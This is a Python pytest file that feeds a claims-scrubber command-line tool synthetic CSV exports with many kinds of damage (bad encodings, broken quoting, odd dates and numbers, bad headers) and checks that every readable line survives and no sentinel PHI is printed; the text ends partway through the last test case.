"""Malformed exports through the real command line: nothing lost, nothing printed, no traceback.

The product's issue: "Ragged rows, unbalanced quotes, a BOM, Windows-1252 bytes, duplicate headers,
empty files, header-only files, blank lines, mixed date formats, numbers with spaces or thousands
separators, very long cells, non-ASCII names, a required column missing, unknown payer_type values.
Every readable line comes out exactly once, in order; each value that cannot be read becomes an
invalid_input finding that names the column; no traceback ever reaches the user (exit 2 with a
one-line reason for what cannot be processed at all)." And: PHI never appears on stdout, stderr or
in messages.

Every case starts from the same ten valid lines (the bundled baseline line, rules/baseline_line.yaml,
with patient_id `PHI-SENTINEL-<n>` and a non-ASCII patient name that carries a sentinel too), damages
the export in one way, and runs `scrubber run` with the bundled rules plus one probe rule that shows
the values the reader parsed (so "readable" is checked as "read correctly", not only "not reported").
Each case's comment says what its readable lines are. A case is either

- processable: exit 0 (`--fail-on never`); annotated.csv holds exactly the readable lines, once each,
  in input order, with their input cells untouched (a cell a spreadsheet would run as a formula
  too: the contract carries cells untouched); each unreadable value has an INPUT_UNREADABLE_VALUE finding on its
  line naming the column, and a line with nothing unreadable has none; or
- unprocessable: exit 2, one line on stderr naming the file, and the --out folder not created (or,
  when a previous run's output is there, left as it was).

All runs start at once (a few at a time) in a module fixture, so the suite stays well under a minute.
"""

from __future__ import annotations

import csv
import dataclasses
import sys
import datetime as dt
import gzip
import json
import os
import subprocess
from collections.abc import Callable
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

# The annotated file may hold a 200,000-character cell; Python's csv stops at 131,072 by default.
csv.field_size_limit(sys.maxsize)
import yaml
from conftest import run_cli

from scrubber.loader import BUNDLED_RULES

PHI = "PHI-SENTINEL"  # every patient_id and patient name carries it; it may never be printed
RUN_DATE = "2026-09-30"
SCRUB_COLUMNS = ["scrub_status", "scrub_causes", "scrub_rule_ids", "scrub_carcs", "scrub_messages"]
UNREADABLE = "INPUT_UNREADABLE_VALUE"
ANY = None  # an expected cell that is not compared (a damaged line's cells, a typed Parquet cell)

# Names a Windows-1252 export can hold (so the cp1252 case can use them as they are).
NAMES = [
    "Zoë Ångström",
    "José Núñez",
    "Søren Kierkegård",
    "Chloé Dubois",
    "Björn Ærø",
    "Ørjan Müller",
    "François L'Hôpital",
    "Ana María Peña",
    "Jürgen Weiß",
    "Renée Œuvray",
]
PAYERS = ["commercial", "medicaid", "medicare_advantage", "commercial", "medicaid"] * 2

# A rule layered over the bundled pack that fires on every line and shows what the reader parsed.
PROBE_FIELDS = ["units", "minutes", "charge", "service_date", "submission_date", "order_date", "payer_type"]
PROBE_RULE = """\
id: TST_PROBE_TYPED
name: probe-typed-values
summary: Shows the values the reader parsed (written by tests/test_malformed_exports.py).
cause: documentation
severity: at-risk
carc: "16"
when: {{not: {{field: claim_id, op: eq, value: "C-BASE"}}}}  # every line but the clean baseline line
message: "probe|{fields}"
fix: Nothing to fix; a test probe.
sources:
  - {{title: "tests/test_malformed_exports.py", url: "https://example.org/probe"}}
examples:
  fires:
    - {{title: placeholder, line: {{}}}}
  passes:
    - {{title: placeholder, line: {{}}}}
""".format(fields="|".join(f"{f}={{{f}}}" for f in PROBE_FIELDS))


# -- the valid base ---------------------------------------------------------------------------------
def _baseline() -> dict[str, str]:
    data = yaml.safe_load((BUNDLED_RULES / "baseline_line.yaml").read_text(encoding="utf-8"))
    out = {}
    for key, value in data.items():
        if isinstance(value, float):
            out[key] = f"{value:.2f}"
        else:
            out[key] = "" if value is None else str(value)
    return out


BASE = _baseline()
HEADER = [*list(BASE)[:3], "patient_name", *list(BASE)[3:]]  # an extra (non-contract) column


def col(name: str) -> int:
    return HEADER.index(name)


def base_rows() -> list[list[str]]:
    rows = []
    for n in range(1, 11):
        line = {
            **BASE,
            "claim_id": f"C-{1000 + n}",
            "line_no": "1",
            "patient_id": f"{PHI}-{n}",
            "patient_name": f"{NAMES[n - 1]} {PHI}-N{n}",
            "payer_type": PAYERS[n - 1],
        }
        rows.append([line[h] for h in HEADER])
    return rows


def csv_line(cells: list[str]) -> str:
    """One CSV record as a spreadsheet writes it (minimal quoting), without its line ending."""
    import io

    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(cells)  # "\n" here: cells holding it are quoted
    return buffer.getvalue().removesuffix("\n")


def csv_text(header: list[str], rows: list[list[str]], nl: str = "\n", final: bool = True) -> str:
    lines = [csv_line(header), *(csv_line(r) for r in rows)]
    return nl.join(lines) + (nl if final else "")


def key(row: list[Any]) -> str:
    return row[0]


# -- what a case expects ------------------------------------------------------------------------------
@dataclass
class Processed:
    """Exit 0 with --fail-on never; annotated.csv holds exactly `rows` (ANY cells not compared)."""

    header: list[str]
    rows: list[list[str | None]]
    # claim_id -> words that must each appear in an INPUT_UNREADABLE_VALUE message on that line
    # (the column names); a line not listed here must have no such finding.
    unreadable: dict[str, set[str]] = field(default_factory=dict)
    # claim_id -> {field: text the probe must show}: readable values, read correctly.
    reads: dict[str, dict[str, str]] = field(default_factory=dict)
    # claim_id -> {field: text}: either the value is reported unreadable naming the field, or it is
    # read as this text (an ambiguous value may be refused, never silently misread).
    reads_or_reports: dict[str, dict[str, str]] = field(default_factory=dict)
    # The contract leaves this input to the implementation: exit 2 naming these words is fine too.
    or_exit_2_naming: list[str] | None = None


@dataclass
class Unprocessable:
    """Exit 2, one line on stderr naming the file (and `naming`); --out untouched."""

    naming: list[str] = field(default_factory=list)
    previous_output: bool = False  # a previous run's output is in --out and must survive


@dataclass
class Case:
    export: Path
    expect: Processed | Unprocessable
    args: list[str] = field(default_factory=list)


Builder = Callable[[Path], Case]
CASES: dict[str, Builder] = {}
REFUSED: set[str] = set()  # the cases whose export cannot be processed at all (exit 2)


def case(fn: Builder) -> Builder:
    CASES[fn.__name__.removeprefix("_").replace("_", "-")] = fn
    return fn


def refused(fn: Builder) -> Builder:
    REFUSED.add(fn.__name__.removeprefix("_").replace("_", "-"))
    return case(fn)


def _plain(folder: Path, rows: list[list[str]] | None = None, name: str = "export.csv", **kw: Any) -> Case:
    rows = rows if rows is not None else base_rows()
    export = folder / name
    export.write_text(csv_text(HEADER, rows, **kw), encoding="utf-8")
    return Case(export, Processed(HEADER, rows))


def _write(folder: Path, header: list[str], rows: list[list[str]], name: str = "export.csv") -> Case:
    export = folder / name
    export.write_text(csv_text(header, rows), encoding="utf-8")
    return Case(export, Processed(header, rows))


# -- line endings and encodings ---------------------------------------------------------------------
@case
def _crlf(folder: Path) -> Case:
    # Windows line endings: all ten lines; no cell keeps a stray "\r".
    return _plain(folder, nl="\r\n")


@case
def _cr_only(folder: Path) -> Case:
    # Classic-Mac "\r" line endings: all ten lines.
    return _plain(folder, nl="\r")


@case
def _no_final_newline(folder: Path) -> Case:
    # The last line has no line ending: it is still a complete line, so all ten come out.
    return _plain(folder, final=False)


@case
def _bom(folder: Path) -> Case:
    # A UTF-8 byte-order mark before the header: the first column is still claim_id; all ten lines.
    rows = base_rows()
    export = folder / "export.csv"
    export.write_bytes(b"\xef\xbb\xbf" + csv_text(HEADER, rows).encode("utf-8"))
    return Case(export, Processed(HEADER, rows))


@case
def _windows_1252(folder: Path) -> Case:
    # The whole export in Windows-1252 (Excel on Windows), names with accents, a euro sign and curly
    # quotes in a cell: every line, every name decoded to the same text.
    rows = base_rows()
    rows[4][col("curriculum_id")] = "ADA “DSMES” €"
    export = folder / "export.csv"
    export.write_bytes(csv_text(HEADER, rows, nl="\r\n").encode("cp1252"))
    return Case(export, Processed(HEADER, rows))


@case
def _stray_cp1252_byte_in_utf8(folder: Path) -> Case:
    # A UTF-8 export with one name pasted from a Windows-1252 source (one 0xE9 byte for "é"): the
    # other nine names are valid UTF-8 and must come out as they are; the odd byte reads as cp1252.
    rows = base_rows()
    export = folder / "export.csv"
    text = csv_text(HEADER, rows).encode("utf-8")
    damaged_name = rows[6][col("patient_name")]  # François L'Hôpital
    text = text.replace(damaged_name.encode("utf-8"), damaged_name.encode("cp1252"))
    export.write_bytes(text)
    return Case(export, Processed(HEADER, rows))


@case
def _utf16_with_bom(folder: Path) -> Case:
    # Excel's "Unicode text" save: UTF-16 LE with a BOM. The contract says UTF-8, so refusing it
    # (exit 2 naming the file) is fine; reading it is fine too, but never as mojibake lines.
    rows = base_rows()
    export = folder / "export.csv"
    export.write_bytes(csv_text(HEADER, rows, nl="\r\n").encode("utf-16"))
    return Case(export, Processed(HEADER, rows, or_exit_2_naming=[]))


@case
def _nul_bytes(folder: Path) -> Case:
    # NUL bytes: one inside a name (an extra column, carried through as it is) and one after the
    # units (units "1\0" is not a whole number: reported naming units). All ten lines.
    rows = base_rows()
    rows[2][col("patient_name")] = f"Søren\x00Kierkegård {PHI}-N3"
    rows[5][col("units")] = "1\x00"
    export = folder / "export.csv"
    export.write_text(csv_text(HEADER, rows), encoding="utf-8")
    return Case(export, Processed(HEADER, rows, unreadable={"C-1006": {"units"}}))


# -- blank and empty -----------------------------------------------------------------------------------
@case
def _blank_lines(folder: Path) -> Case:
    # Blank lines before the header, between lines, a whitespace-only line, a row of bare commas and
    # blank lines at the end: none is a claim line; the ten real lines all come out, in order.
    rows = base_rows()
    lines = [csv_line(HEADER), *(csv_line(r) for r in rows)]
    lines[3:3] = ["", "   "]
    lines[8:8] = ["," * (len(HEADER) - 1), ""]
    export = folder / "export.csv"
    export.write_text("\n\n" + "\n".join(lines) + "\n\n\n", encoding="utf-8")
    return Case(export, Processed(HEADER, rows))


@case
def _header_only(folder: Path) -> Case:
    # A header and no lines (and no final newline): nothing to scrub, not an error: exit 0, an
    # annotated.csv with the header only, no findings.
    return _plain(folder, rows=[], final=False)


@refused
def _empty_file(folder: Path) -> Case:
    # Zero bytes: no header, so no required column: exit 2.
    export = folder / "export.csv"
    export.write_bytes(b"")
    return Case(export, Unprocessable(previous_output=True))


@refused
def _blank_lines_only(folder: Path) -> Case:
    # Only blank lines and whitespace: as empty as an empty file: exit 2.
    export = folder / "export.csv"
    export.write_text("\n\r\n   \n\t\n", encoding="utf-8")
    return Case(export, Unprocessable())


# -- rows of the wrong shape and broken quoting ---------------------------------------------------------
@case
def _ragged_rows(folder: Path) -> Case:
    # Line 3 lost its last two cells, line 6 has one cell too many at the end. Both are still lines
    # (their cells are where they were; the short one padded with empty cells, the surplus cell
    # joined to the last one, so no cell is lost) and each is reported on the line as a cell-count problem.
    rows = base_rows()
    lines = [csv_line(HEADER), *(csv_line(r) for r in rows)]
    lines[3] = csv_line(rows[2][:-2])
    lines[6] = csv_line([*rows[5], "surplus"])
    export = folder / "export.csv"
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    expected = [list(r) for r in rows]
    expected[2] = [*rows[2][:-2], "", ""]
    expected[5] = [*rows[5][:-1], rows[5][-1] + ",surplus"]
    unreadable = {"C-1003": {"cells", "row 3 of export.csv:"}, "C-1006": {"cells", "row 6 of export.csv:"}}
    return Case(export, Processed(HEADER, expected, unreadable=unreadable))


def _comma_in_name(folder: Path, cells_lost: int, unreadable: set[str]) -> Case:
    """Line 2's name "Núñez, José" written without quotes, and its last `cells_lost` cells lost:
    every cell after the name sits one column to the right. The line comes out (cells not compared:
    which column holds what is unknowable); its name fragment lands in payer_type and no message may
    show it (PHI)."""
    rows = base_rows()
    lines = [csv_line(HEADER), *(csv_line(r) for r in rows)]
    cells = list(rows[1])
    cells[col("patient_name")] = f"Núñez, José {PHI}-N2"
    lines[2] = ",".join(cells[: len(cells) - cells_lost])
    export = folder / "export.csv"
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    expected: list[list[str | None]] = [list(r) for r in rows]
    expected[1] = [rows[1][0], *[ANY] * (len(HEADER) - 1)]
    return Case(export, Processed(HEADER, expected, unreadable={"C-1002": unreadable}))


@case
def _unquoted_comma_shifts_cells(folder: Path) -> Case:
    # One cell too many: reported as a cell-count problem.
    return _comma_in_name(folder, cells_lost=0, unreadable={"cells"})


@case
def _shifted_cells_in_a_row_of_the_right_width(folder: Path) -> Case:
    # The last cell also lost, so the line has the header's cell count and only its values show the
    # shift (the name fragment in payer_type, a payer id in service_date). Several unreadable values in
    # one row are reported as shifted cells, naming the columns and echoing none of the values.
    return _comma_in_name(folder, cells_lost=1, unreadable={"shifted", "payer_type", "service_date"})


@case
def _unbalanced_quote(folder: Path) -> Case:
    # Line 4's name opens a quote that never closes. A CSV parser would read the rest of the file
    # into that one cell; but lines 5-10 are complete, well-formed physical lines: each must still
    # come out, unchanged. Line 4 itself comes out (key compared only; reading the quote as a
    # literal character, or reporting the line, are both fine).
    rows = base_rows()
    lines = [csv_line(HEADER), *(csv_line(r) for r in rows)]
    cells = list(rows[3])
    cells[col("patient_name")] = f'"Chloé Dubois {PHI}-N4'
    lines[4] = ",".join(cells)
    export = folder / "export.csv"
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    expected: list[list[str | None]] = [list(r) for r in rows]
    expected[3] = [rows[3][0], *[ANY] * (len(HEADER) - 1)]
    return Case(export, Processed(HEADER, expected, unreadable={"C-1004": {""}}))


def streamed_too(fn: Builder) -> Builder:
    """Register the case, and again read in pieces of 10 lines (its export has 30): the same lines
    must come out."""
    name = fn.__name__.removeprefix("_").replace("_", "-")
    CASES[f"{name}-in-pieces"] = lambda folder: dataclasses.replace(fn(folder), args=["--chunk-lines", "10"])
    return case(fn)


def thirty_rows() -> list[list[str]]:
    """The ten lines three times over, each with its own claim id (C-1001 ... C-1030)."""
    base, rows = base_rows(), []
    for n in range(30):
        row = list(base[n % 10])
        row[col("claim_id")] = f"C-{1001 + n}"
        rows.append(row)
    return rows


def _export_lines(folder: Path, lines: list[str]) -> Path:
    export = folder / "export.csv"
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return export


def _stray_quote_case(folder: Path, rows: list[list[str]], lines: list[str], *at: int) -> Case:
    """The lines `at` (0-based among `rows`) get a name that opens a quote and never closes it: each
    is read to its end and reported; every other line comes out as `rows` has it."""
    expected: list[list[str | None]] = [list(r) for r in rows]
    for n in at:
        cells = list(rows[n])
        cells[col("patient_name")] = f'"Ana {PHI}-N{n + 1}'
        lines[n + 1] = ",".join(cells)
        expected[n] = [rows[n][0], *[ANY] * (len(HEADER) - 1)]
    # A damaged line's finding names where it is (it shows no claim id): its number among the file's lines.
    unreadable = {rows[n][0]: {"quote", f"row {n + 1} of export.csv:"} for n in at}
    return Case(_export_lines(folder, lines), Processed(HEADER, expected, unreadable=unreadable))


@streamed_too
def _two_stray_quotes(folder: Path) -> Case:
    # Line 4's name opens a quote that never closes, and line 8 has an inch mark (5'10"): the file has
    # an even number of quotes, and a CSV parser would read lines 4-8 as one cell. Lines 5-30 come
    # out as written (the inch mark is a character).
    rows = thirty_rows()
    rows[7][col("curriculum_id")] = "ADA 5'10\" poster"
    lines = [csv_line(HEADER), *(csv_line(r) for r in rows)]
    lines[8] = ",".join(rows[7])
    return _stray_quote_case(folder, rows, lines, 3)


@streamed_too
def _two_quotes_never_closed_in_one_column(folder: Path) -> Case:
    # Lines 4 and 20 each open a quote in the name and never close it: read together, they would make
    # one row of the right width holding lines 4-20 (pyarrow reads them so). Each is read to its end
    # and reported; the lines between come out as written.
    rows = thirty_rows()
    return _stray_quote_case(folder, rows, [csv_line(HEADER), *(csv_line(r) for r in rows)], 3, 19)


@streamed_too
def _quoted_line_break_and_a_stray_quote(folder: Path) -> Case:
    # A correctly quoted name holding a line break (line 2), and a stray opening quote on line 7:
    # line 2 is still one line with its break.
    rows = thirty_rows()
    rows[1][col("patient_name")] = f"José\nNúñez {PHI}-N2"
    return _stray_quote_case(folder, rows, [csv_line(HEADER), *(csv_line(r) for r in rows)], 6)


@streamed_too
def _unicode_line_separators_in_cells(folder: Path) -> Case:
    # U+2028, a form feed and U+0085 pasted into cells, and a stray quote on line 9: only \n and \r\n
    # end a line, so every line comes out whole with those characters in its cells.
    rows = thirty_rows()
    rows[2][col("curriculum_id")] = "ADA\u2028DSMES"
    rows[4][col("patient_name")] = f"Zoë\x0cNúñez {PHI}-N5"
    rows[5][col("patient_name")] = f"Ana\u0085Lee {PHI}-N6"
    return _stray_quote_case(folder, rows, [csv_line(HEADER), *(csv_line(r) for r in rows)], 8)


@streamed_too
def _whitespace_only_rows(folder: Path) -> Case:
    # Rows of spaces and tabs between commas after lines 2 and 6: not claim lines, like blank lines,
    # whatever else the file holds (line 9 lost its last cell).
    rows = thirty_rows()
    lines = [csv_line(HEADER), *(csv_line(r) for r in rows)]
    lines[9] = csv_line(rows[8][:-1])
    blank = ",".join([" "] * len(HEADER))
    lines = [*lines[:3], blank, *lines[3:7], ",\t," + ",".join([""] * (len(HEADER) - 3)), *lines[7:]]
    expected = [list(r) for r in rows]
    expected[8] = [*rows[8][:-1], ""]
    # Rows that are not claim lines are not counted: the damaged line is the file's ninth.
    unreadable = {"C-1009": {"cells", "row 9 of export.csv:"}}
    return Case(_export_lines(folder, lines), Processed(HEADER, expected, unreadable=unreadable))


@streamed_too
def _lone_carriage_return_in_a_cell(folder: Path) -> Case:
    # A lone \r inside an unquoted name in a file whose lines end in \n: a character of the cell, not
    # a line end: ten lines, the cell as written.
    rows = thirty_rows()
    rows[3][col("patient_name")] = f"Zoe\rDoe {PHI}-N4"
    lines = [csv_line(HEADER), *(",".join(r) for r in rows)]
    return Case(_export_lines(folder, lines), Processed(HEADER, rows))


@streamed_too
def _excel_separator_line(folder: Path) -> Case:
    # Excel's "sep=," line before the header names the separator; it is not the header. With a quoted
    # line break on line 2, so the tolerant reader sees it too.
    rows = thirty_rows()
    rows[1][col("patient_name")] = f"José\nNúñez {PHI}-N2"
    export = folder / "export.csv"
    export.write_text("sep=,\n" + csv_text(HEADER, rows), encoding="utf-8")
    return Case(export, Processed(HEADER, rows))


@streamed_too
def _utf16(folder: Path) -> Case:
    # Excel's "Unicode Text" encoding, UTF-16 with its byte-order mark: read as the same lines.
    rows = thirty_rows()
    export = folder / "export.csv"
    export.write_bytes(csv_text(HEADER, rows).encode("utf-16"))
    return Case(export, Processed(HEADER, rows))


@case
def _quotes_inside_unquoted_cells(folder: Path) -> Case:
    # Quotes in the middle of unquoted cells (Zoë "Zee" Ångström, O"Brien): literal characters;
    # every line comes out with the cells exactly as written, nothing reported.
    rows = base_rows()
    rows[0][col("patient_name")] = f'Zoë "Zee" Ångström {PHI}-N1'
    rows[7][col("patient_name")] = f'Ana O"Brien {PHI}-N8'
    rows[7][col("curriculum_id")] = 'ADA-"DSMES"-2024'
    lines = [csv_line(HEADER), *(csv_line(r) for r in rows)]
    lines[1] = ",".join(rows[0])
    lines[8] = ",".join(rows[7])
    export = folder / "export.csv"
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Case(export, Processed(HEADER, rows))


@case
def _quoted_newlines(folder: Path) -> Case:
    # A quoted cell holding a line break ("\n" in one, "\r\n" in another): one line each, the break
    # kept in the cell; ten lines in all.
    rows = base_rows()
    rows[1][col("patient_name")] = f"José\nNúñez {PHI}-N2"
    rows[8][col("modifiers")] = "GP\r\n59"
    rows[8][col("cpt")] = "97110"
    return _plain(folder, rows)


@case
def _trailing_delimiter_every_row(folder: Path) -> Case:
    # Every row, header included, ends with a comma: one extra unnamed, empty column; the lines are
    # whole and nothing is unreadable.
    rows = base_rows()
    export = folder / "export.csv"
    text = "\n".join(csv_line(r) + "," for r in [HEADER, *rows]) + "\n"
    export.write_text(text, encoding="utf-8")
    return Case(export, Processed([*HEADER, ""], [[*r, ""] for r in rows]))


@case
def _extra_unnamed_column(folder: Path) -> Case:
    # A column with an empty header in the middle, holding values: carried through untouched, in
    # its place, like any extra column.
    rows = base_rows()
    at = col("cpt") + 1
    header = [*HEADER[:at], "", *HEADER[at:]]
    rows = [[*r[:at], f"x{i}", *r[at:]] for i, r in enumerate(rows)]
    return _write(folder, header, rows)


@case
def _two_unnamed_trailing_columns(folder: Path) -> Case:
    # Excel's leftover: two empty-headed columns at the end (",," on every row). Blank names are not
    # a duplicated column name; both empty columns are carried through and every line comes out.
    rows = [[*r, "", ""] for r in base_rows()]
    return _write(folder, [*HEADER, "", ""], rows)


@case
def _duplicate_line(folder: Path) -> Case:
    # The same line exported twice: both copies are lines (a duplicate is a finding, not a reason
    # to drop one): eleven lines, in order.
    rows = base_rows()
    rows.insert(5, list(rows[4]))
    return _plain(folder, rows)


# -- headers ------------------------------------------------------------------------------------------
@case
def _header_with_surrounding_spaces(folder: Path) -> Case:
    # " claim_id ", "units " ...: the names are recognised after trimming; cells with surrounding
    # spaces are kept as written (" commercial " is read as commercial).
    rows = base_rows()
    rows[2][col("payer_type")] = " commercial "
    rows[3][col("units")] = " 2 "
    header = [f" {h} " if i % 2 else f"{h}  " for i, h in enumerate(HEADER)]
    export = folder / "export.csv"
    export.write_text(csv_text(header, rows), encoding="utf-8")
    return Case(
        export,
        Processed(HEADER, rows, reads={"C-1003": {"payer_type": "commercial"}, "C-1004": {"units": "2"}}),
    )


@case
def _header_in_other_case(folder: Path) -> Case:
    # "Claim_ID", "CPT", "Units", "Payer_Type": the contract names columns exactly; matching them
    # case-insensitively is fine, and so is exit 2 naming them and pointing at --mapping.
    renamed = {"claim_id": "Claim_ID", "cpt": "CPT", "units": "Units", "payer_type": "Payer_Type"}
    header = [renamed.get(h, h) for h in HEADER]
    rows = base_rows()
    export = folder / "export.csv"
    export.write_text(csv_text(header, rows), encoding="utf-8")
    return Case(export, Processed(header, rows, or_exit_2_naming=["claim_id", "units", "--mapping"]))


@refused
def _duplicate_header(folder: Path) -> Case:
    # units appears twice, with different values: which one is billed is unknowable: exit 2 naming
    # the column.
    header = [*HEADER, "units"]
    rows = [[*r, "3"] for r in base_rows()]
    export = folder / "export.csv"
    export.write_text(csv_text(header, rows), encoding="utf-8")
    return Case(export, Unprocessable(["units"], previous_output=True))


@refused
def _required_columns_missing(folder: Path) -> Case:
    # No rendering_npi and no units column: exit 2 naming both and pointing at --mapping.
    drop = {col("rendering_npi"), col("units")}
    header = [h for i, h in enumerate(HEADER) if i not in drop]
    rows = [[c for i, c in enumerate(r) if i not in drop] for r in base_rows()]
    export = folder / "export.csv"
    export.write_text(csv_text(header, rows), encoding="utf-8")
    return Case(export, Unprocessable(["rendering_npi", "units", "--mapping"]))


@refused
def _no_header_row(folder: Path) -> Case:
    # The export starts with data (the header row was not exported), and it has a member_id column
    # beside patient_id (the same value when the patient is the subscriber). The first line's cells
    # are PHI, not column names: exit 2, and the reason must not quote them.
    header = [*HEADER[:3], "member_id", *HEADER[3:]]
    rows = [[*r[:3], r[2], *r[3:]] for r in base_rows()]
    export = folder / "export.csv"
    export.write_text("\n".join(csv_line(r) for r in rows) + "\n", encoding="utf-8")
    assert len(header) == len(rows[0])
    return Case(export, Unprocessable())


@refused
def _semicolon_delimited(folder: Path) -> Case:
    # A European-Excel export with ";" between cells: exit 2, saying the file is not comma-separated
    # (not that every required column is missing).
    rows = base_rows()
    export = folder / "export.csv"
    text = "\n".join(";".join(r) for r in [HEADER, *rows]) + "\n"
    export.write_text(text, encoding="utf-8")
    return Case(export, Unprocessable(["not comma-separated"]))


# -- values ---------------------------------------------------------------------------------------------
def _one_value_per_line(folder: Path, column: str, values: list[str]) -> tuple[Path, list[list[str]]]:
    rows = base_rows()
    for row, value in zip(rows, values, strict=True):
        row[col(column)] = value
    export = folder / "export.csv"
    export.write_text(csv_text(HEADER, rows), encoding="utf-8")
    return export, rows


@case
def _mixed_date_formats(folder: Path) -> Case:
    # service_date in every format an export may hold. Readable (contract: YYYY-MM-DD or
    # MM/DD/YYYY; also the X12 D8 form): the ISO date, with a time, US with and without leading
    # zeros, YYYYMMDD. Unreadable, each reported naming service_date: impossible dates (2026-02-30,
    # 2026-13-45, 02/30/2026), German dots, a month name.
    values = ["2026-09-01", "09/01/2026", "9/1/2026", "2026-09-01T09:30:00", "2026-02-30",
              "2026-13-45", "01.09.2026", "Sep 1, 2026", "20260901", "02/30/2026"]
    export, rows = _one_value_per_line(folder, "service_date", values)
    reads = {f"C-{1000 + n}": {"service_date": "2026-09-01"} for n in (1, 2, 3, 4, 9)}
    bad = {f"C-{1000 + n}": {"service_date"} for n in (5, 6, 7, 8, 10)}
    return Case(export, Processed(HEADER, rows, unreadable=bad, reads=reads))


@streamed_too
def _group_session_without_a_readable_date(folder: Path) -> Case:
    # Group education lines of one session whose service dates are unreadable or empty: the lines
    # come out reported (they used to crash the session count, exit 2 with nothing written).
    rows = thirty_rows()
    for n, row in enumerate(rows):
        row[col("cpt")], row[col("group_size")], row[col("session_id")] = "98962", "6", "DM-0901-AM"
        row[col("service_date")] = ("2026-13-45", "", "01.09.2026")[n % 3]
    export = folder / "export.csv"
    export.write_text(csv_text(HEADER, rows), encoding="utf-8")
    bad = {f"C-{1001 + n}": {"service_date"} for n in range(30) if n % 3 != 1}
    return Case(export, Processed(HEADER, rows, unreadable=bad))


@case
def _impossible_optional_dates(folder: Path) -> Case:
    # Optional date columns: 2026-02-29 (2026 is not a leap year), 2026-02-30 and 2026-04-31 are
    # unreadable and reported naming their column; 2024-02-29 is a real date.
    rows = base_rows()
    rows[0][col("submission_date")] = "2026-02-29"
    rows[1][col("order_date")] = "2026-02-30"
    rows[2][col("order_date")] = "2026-04-31"
    rows[3][col("order_date")] = "2024-02-29"
    export = folder / "export.csv"
    export.write_text(csv_text(HEADER, rows), encoding="utf-8")
    return Case(export, Processed(
        HEADER, rows,
        unreadable={"C-1001": {"submission_date"}, "C-1002": {"order_date"}, "C-1003": {"order_date"}},
        reads={"C-1004": {"order_date": "2024-02-29"}},
    ))


@case
def _units_formats(folder: Path) -> Case:
    # units: "1,000" (thousands separator), " 2 ", "2.0", "1 000" (space as thousands separator),
    # "+3" and "-1" are whole numbers; "two", "1.5" and "0x10" are not (reported naming units).
    # "1,0" (a German decimal comma) is 1 or reported, never 10.
    values = ["1,000", " 2 ", "2.0", "two", "1 000", "1.5", "+3", "-1", "1,0", "0x10"]
    export, rows = _one_value_per_line(folder, "units", values)
    return Case(export, Processed(
        HEADER, rows,
        unreadable={"C-1004": {"units"}, "C-1006": {"units"}, "C-1010": {"units"}},
        reads={"C-1001": {"units": "1000"}, "C-1002": {"units": "2"}, "C-1003": {"units": "2"},
               "C-1005": {"units": "1000"}, "C-1007": {"units": "3"}, "C-1008": {"units": "-1"}},
        reads_or_reports={"C-1009": {"units": "1"}},
    ))


@case
def _full_width_digits(folder: Path) -> Case:
    # Digits typed on a Japanese or Chinese keyboard: units "２", minutes "３０", charge "４５.００".
    # Each is read as the number or reported naming its column; never a crash.
    rows = base_rows()
    rows[1][col("units")] = "２"
    rows[3][col("minutes")] = "３０"
    rows[5][col("charge")] = "４５.００"
    export = folder / "export.csv"
    export.write_text(csv_text(HEADER, rows), encoding="utf-8")
    return Case(export, Processed(
        HEADER, rows,
        reads_or_reports={
            "C-1002": {"units": "2"}, "C-1004": {"minutes": "30"}, "C-1006": {"charge": "45.00"},
        },
    ))


@case
def _charge_formats(folder: Path) -> Case:
    # charge: "$1,234.50", "-5" (a credit: a number, and not a formula to neutralise) and " 45.00 "
    # read as written. European "12,50" is 12.50 or reported, never 1250; "1.234,50" is 1234.50 or
    # reported, never 1.2345; accounting "(45.00)" is -45.00 or reported; "€45,00" is 45.00 or
    # reported. "45.OO", "USD 45" and "NaN" are reported naming charge.
    values = ["$1,234.50", "12,50", "-5", "1.234,50", " 45.00 ", "45.OO", "USD 45", "NaN",
              "(45.00)", "€45,00"]
    export, rows = _one_value_per_line(folder, "charge", values)
    return Case(export, Processed(
        HEADER, rows,
        unreadable={"C-1006": {"charge"}, "C-1007": {"charge"}, "C-1008": {"charge"}},
        reads={"C-1001": {"charge": "1234.50"}, "C-1003": {"charge": "-5.00"},
               "C-1005": {"charge": "45.00"}},
        reads_or_reports={"C-1002": {"charge": "12.50"}, "C-1004": {"charge": "1234.50"},
                          "C-1009": {"charge": "-45.00"}, "C-1010": {"charge": "45.00"}},
    ))


@case
def _unknown_payer_types(folder: Path) -> Case:
    # payer_type is case-insensitive: "MEDICARE", "Medicare Advantage", " medicaid ", "Commercial"
    # are read; "Tricare", "BCBS", "Medicare Part B", "self-pay", "Medi-Cal" are reported naming
    # payer_type (the value is not PHI).
    values = ["MEDICARE", "Medicare Advantage", " medicaid ", "Commercial", "Tricare", "BCBS",
              "Medicare Part B", "self-pay", "Medi-Cal", "commercial"]
    export, rows = _one_value_per_line(folder, "payer_type", values)
    reads = {"C-1001": "medicare", "C-1002": "medicare_advantage", "C-1003": "medicaid",
             "C-1004": "commercial", "C-1010": "commercial"}
    return Case(export, Processed(
        HEADER, rows,
        unreadable={f"C-{1000 + n}": {"payer_type"} for n in range(5, 10)},
        reads={k: {"payer_type": v} for k, v in reads.items()},
    ))


@case
def _non_ascii_names(folder: Path) -> Case:
    # Names in other scripts, an emoji with a zero-width joiner, a decomposed "ë" (e + U+0308, not to
    # be normalised), a right-to-left name, and a non-ASCII curriculum id: every cell byte-for-byte.
    names = ["李小龍", "Анна Петрова", "محمد الأحمد", "Zoë 👩\u200d⚕️ Doe", "Zoe\u0308 Decomposed",
             "Νίκος Παπαδόπουλος", "देवनागरी नाम", "\u200fשרה כהן", "Łukasz Żółć", "Nguyễn Văn Ân"]
    rows = base_rows()
    for n, (row, name) in enumerate(zip(rows, names, strict=True), start=1):
        row[col("patient_name")] = f"{name} {PHI}-N{n}"
    rows[3][col("curriculum_id")] = "CAFÉ-ÉDUCATION-1"
    return _plain(folder, rows)


@case
def _cell_of_100k_characters(folder: Path) -> Case:
    # 100,000-character cells: in the extra name column (carried through whole, nothing to read),
    # in curriculum_id (a contract column: too long, reported naming it) and in patient_id (reported
    # naming patient_id, never showing the value).
    rows = base_rows()
    rows[1][col("patient_name")] = f"{PHI}-N2 " + "Ö" * 100_000
